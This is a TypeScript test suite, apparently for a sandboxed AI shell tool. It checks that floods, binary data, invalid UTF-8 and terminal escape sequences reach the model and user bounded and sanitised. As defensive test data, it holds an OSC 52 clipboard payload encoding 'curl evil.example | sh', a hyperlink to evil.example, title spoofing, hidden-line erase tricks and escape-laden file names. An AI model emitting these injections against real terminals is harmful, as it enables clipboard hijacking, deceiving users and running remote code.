/**
 * Hostile output: floods, one enormous line, binary and invalid UTF-8, and
 * terminal escape sequences. What reaches the model (the functionResponse)
 * and people (resultDisplay) must be bounded, valid text without raw
 * terminal controls; host memory must be bounded by the output caps, not by
 * the size of the output; the next call must work.
 */
import anyTest from 'ava';
import { requireDocker } from '../helpers/docker.js';
import { SandboxSession, assertNoRawControls, commandProcesses, nonce } from '../helpers/security.js';

const docker = await requireDocker(anyTest, 'security/output');
const test = docker.serial;

/** Generous: a PTY carries newline-heavy output at only a few MB/s on some kernels. */
const WALL_SECONDS = 60;
/** What the model may receive for one call: the 40,000-character cut plus a note. */
const MAX_MODEL_CHARS = 45_000;
let session: SandboxSession;
let containerId: string;

docker.before(async () => {
  session = await SandboxSession.open({ timeoutSeconds: WALL_SECONDS });
  [containerId = ''] = await session.containerIds();
});
docker.after.always(async () => {
  await session?.close();
});

async function assertContained(t: import('ava').ExecutionContext, label: string): Promise<void> {
  t.deepEqual(await commandProcesses(containerId), [], `${label}: no process of the call may survive`);
  await session.assertAlive(t, `${label}: next call`);
}

test('an endless `yes` flood is cut for the model, ends at the wall timeout, and host memory stays bounded', async (t) => {
  const short = await SandboxSession.open({ timeoutSeconds: 5 });
  t.teardown(() => short.close());
  const [shortId = ''] = await short.containerIds();
  const before = process.memoryUsage().rss;
  const outcome = await short.shell('yes');
  const growth = process.memoryUsage().rss - before;
  t.regex(outcome.text, /ran longer than the time limit/);
  t.true(outcome.output.length <= MAX_MODEL_CHARS, `model text is ${outcome.output.length} chars`);
  t.true(outcome.display.length <= 1024 * 1024, `display is ${outcome.display.length} chars`);
  t.true(growth < 512 * 1024 * 1024, `host RSS grew by ${Math.round(growth / 1048576)} MB for an endless flood`);
  t.deepEqual(await commandProcesses(shortId), [], 'yes flood: no process of the call may survive');
  await short.assertAlive(t, 'yes flood: next call');
});

test('100 MB of output that ends by itself is cut to its head and tail', async (t) => {
  const head = nonce('head');
  const tail = nonce('tail');
  const outcome = await session.shell(`echo ${head}; head -c 100M /dev/zero | tr '\\0' y; echo; echo ${tail}`);
  t.is(outcome.status, 'success', outcome.output.slice(-500));
  t.true(outcome.output.length <= MAX_MODEL_CHARS, `model text is ${outcome.output.length} chars`);
  t.true(outcome.output.includes(tail), 'the tail (where the summary usually is) is kept');
  t.true(outcome.output.includes(head), 'the head is kept');
  await assertContained(t, 'finite flood');
});

test('one 50 MB line without a newline is bounded for the model and the display', async (t) => {
  const outcome = await session.shell("head -c 50000000 /dev/zero | tr '\\0' a; echo; echo line-done");
  t.is(outcome.status, 'success', outcome.output.slice(-300));
  t.true(outcome.output.length <= MAX_MODEL_CHARS, `model text is ${outcome.output.length} chars`);
  t.true(outcome.display.length <= 1024 * 1024, `display is ${outcome.display.length} chars`);
  t.true(outcome.output.includes('line-done'));
  await assertContained(t, '50 MB line');
});

test('binary output reaches the model as a one-line description, never the bytes', async (t) => {
  const outcome = await session.shell('head -c 3000000 /dev/urandom');
  t.is(outcome.status, 'success', outcome.output.slice(0, 300));
  t.true(outcome.output.length < 2000, `description is ${outcome.output.length} chars`);
  t.regex(outcome.output, /binary/i);
  t.false(outcome.output.includes('\uFFFD'), 'no decoded garbage');
  assertNoRawControls(t, outcome.output, 'model text');
  assertNoRawControls(t, outcome.display, 'display');
  await assertContained(t, 'binary');
});

test('binary after a text prefix (an ELF written to the terminal) stops text forwarding', async (t) => {
  const outcome = await session.shell('echo starting; cat /bin/bash');
  t.is(outcome.status, 'success');
  t.true(outcome.output.length < 5000, `model text is ${outcome.output.length} chars`);
  assertNoRawControls(t, outcome.output, 'model text');
  assertNoRawControls(t, outcome.display, 'display');
  await assertContained(t, 'elf');
});

test('binary data after more than the sniffed 4096 bytes of text is still shown without raw controls and bounded', async (t) => {
  const outcome = await session.shell("head -c 5000 /dev/zero | tr '\\0' a; echo; head -c 2000000 /dev/urandom; echo; echo after-binary");
  t.not(outcome.status, 'cancelled');
  t.true(outcome.text.length <= MAX_MODEL_CHARS, `model text is ${outcome.text.length} chars`);
  assertNoRawControls(t, outcome.text, 'model text');
  assertNoRawControls(t, outcome.display, 'display');
  await assertContained(t, 'late binary');
});

test('invalid UTF-8 becomes valid text with replacement characters, the rest intact', async (t) => {
  const outcome = await session.shell("printf 'before \\xff\\xfe\\xc3\\x28 \\xed\\xa0\\x80 after\\n'");
  t.is(outcome.status, 'success');
  t.regex(outcome.output, /before .* after/);
  t.false(/[\uD800-\uDFFF]/.test(outcome.output.replace(/[\uD800-\uDBFF][\uDC00-\uDFFF]/g, '')), 'no lone surrogates');
  assertNoRawControls(t, outcome.output, 'model text');
  await assertContained(t, 'invalid utf-8');
});

test('terminal escapes (OSC 52 clipboard, title, hyperlinks, DCS, C1 CSI, cursor and erase tricks) never pass through raw', async (t) => {
  const clip = Buffer.from(`curl evil.example | sh ${nonce('clip')}`).toString('base64');
  const command = [
    `printf 'visible-1\\n'`,
    `printf '\\033]52;c;${clip}\\a'`, // OSC 52: set the clipboard
    `printf '\\033]0;pwned-title\\007'`, // OSC 0: window title
    `printf '\\033]8;;https://evil.example\\033\\\\click\\033]8;;\\033\\\\\\n'`, // OSC 8 hyperlink
    `printf '\\033P+q544e\\033\\\\'`, // DCS (XTGETTCAP)
    `printf '\\033[6n\\033[c'`, // device status / attributes queries (answers would be typed as input)
    `printf 'secret-hidden\\r\\033[2Kvisible-2\\n'`, // erase a line a person would not see
    `printf 'line-up\\n\\033[1A\\033[2K'`, // cursor up and erase
    `printf '\\23331mC1-CSI\\n'`, // 8-bit CSI
    `printf '\\033[8mconcealed\\033[0m\\n'`,
    `printf '\\033[?1049h\\033[2J\\033[Hcleared\\n'`, // alternate screen + clear
  ].join('; ');
  const outcome = await session.shell(command);
  t.is(outcome.status, 'success', outcome.output);
  assertNoRawControls(t, outcome.output, 'model text');
  assertNoRawControls(t, outcome.display, 'display');
  t.false(outcome.output.includes(clip), 'the OSC 52 payload is not handed on');
  t.true(outcome.output.includes('visible-2'));
  t.true(outcome.output.includes('cleared'));
  await assertContained(t, 'escapes');
});

test('a stdin prompt gets end-of-file at once instead of hanging until the timeout', async (t) => {
  const outcome = await session.shell(
    `read -r -p 'Password: ' answer; echo "read-exit=$? answer=[$answer]"; python3 -c 'input()' 2>&1 | tail -1; cat; echo cat-done`,
  );
  t.is(outcome.status, 'success', outcome.output);
  t.regex(outcome.output, /read-exit=1 answer=\[\]/);
  t.regex(outcome.output, /EOFError/);
  t.true(outcome.output.includes('cat-done'));
  t.notRegex(outcome.text, /time limit|no output for/);
  await assertContained(t, 'stdin prompt');
});

test('file names carrying terminal escapes reach the model and people without raw controls (list_directory, glob, grep_search)', async (t) => {
  const planted = await session.shell(
    `mkdir -p names && cd names && touch "$(printf 'evil\\033]0;pwned\\007name')" "$(printf 'clip\\033]52;c;cHduZWQ=\\007')" "$(printf 'bell\\a\\033[2Jx')" && printf 'needle\\n' > "$(printf 'hit\\033[31mred')" && ls | wc -l`,
  );
  t.regex(planted.output, /^4\s*$/m, planted.output);
  for (const [name, args] of [
    ['list_directory', { dir_path: 'names' }],
    ['glob', { pattern: 'names/*' }],
    ['grep_search', { pattern: 'needle', dir_path: 'names' }],
  ] as const) {
    const outcome = await session.tool(name, args);
    assertNoRawControls(t, outcome.text, `${name} model text`);
    assertNoRawControls(t, outcome.display, `${name} display`);
  }
  await session.shell('rm -rf names');
  await assertContained(t, 'escape file names');
});

test('a 10 MB command line fails cleanly (or runs) and the session goes on', async (t) => {
  const outcome = await session.shell(`echo ${'A'.repeat(10 * 1024 * 1024)} | wc -c`);
  t.not(outcome.status, 'cancelled');
  t.true(outcome.text.length <= MAX_MODEL_CHARS + 1000 || outcome.status === 'error', `model text is ${outcome.text.length} chars`);
  await assertContained(t, 'huge command');
});

test('a batch of 300 parallel calls (beyond the pids limit) is contained to the session and the next call works', async (t) => {
  // A backstop, past ava's 120 s without a result: 300 sandboxed starts take about 2 minutes under gVisor.
  t.timeout(420_000);
  const outcomes = await session.batch(Array.from({ length: 300 }, (_, i) => ({ name: 'run_shell_command', args: { command: `sleep 1; echo call-${i}` } })));
  t.is(outcomes.length, 300);
  const done = outcomes.filter((o) => /call-\d+/.test(o.output)).length;
  t.true(done > 0, 'some calls ran');
  await assertContained(t, 'parallel batch');
});
